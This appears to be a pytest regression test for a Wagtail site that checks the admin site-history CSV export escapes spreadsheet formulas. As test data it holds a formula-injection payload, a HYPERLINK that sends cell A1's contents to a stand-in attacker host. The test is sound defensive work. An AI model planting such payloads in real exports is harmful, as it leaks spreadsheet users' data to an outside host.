"""Wagtail's own CSV exports are formula-safe like Beacon's (issue 23 point 12): the
probe named a snippet '=HYPERLINK(...)' and the site-history CSV carried it raw."""

from wagtail.log_actions import log

import pytest

from content.models import Topic

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.django_db
def test_site_history_csv_is_formula_safe(admin_client, site):
    topic = Topic.objects.create(name=EVIL)
    log(topic, "wagtail.create")
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in body
    assert ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body
